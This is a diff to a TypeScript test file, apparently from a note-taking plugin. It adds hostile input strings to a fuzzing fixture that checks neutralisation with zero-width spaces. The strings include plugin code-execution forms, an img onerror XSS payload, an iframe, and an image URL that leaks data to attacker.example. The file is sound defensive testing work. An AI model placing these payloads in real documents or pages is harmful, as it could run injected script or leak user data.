@@ -49,6 +49,18 @@ export const HOSTILE_LINES: readonly string[] = [
   '\u2028\u2029',
   '\ud800 lone',
   '$$',
+  // Forms other plugins run or load, and the zero-width spaces the note uses to neutralise them.
+  '```dataviewjs',
+  '```\u200bdataviewjs',
+  '> ~~~ \u200b\u200bmermaid',
+  '`$= dv.pages().length` and `\u200b= this.file.name`',
+  '$= dv.current()',
+  '  \u200b= x',
+  '===',
+  '<%* tR += "x" %> <\u200b%+ y %> <\u200b\u200b/b>',
+  '<iframe src="https://attacker.example/x"></iframe><img onerror=alert(1)>',
+  '![](https://attacker.example/leak?d=1) !\u200b[a](b) ![[Note]] !\u200b[[Note]]',
+  '<!DOCTYPE x> <![CDATA[ y ]]> <? z ?> <https://example.com>',
 ];
 
 const anyChar = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
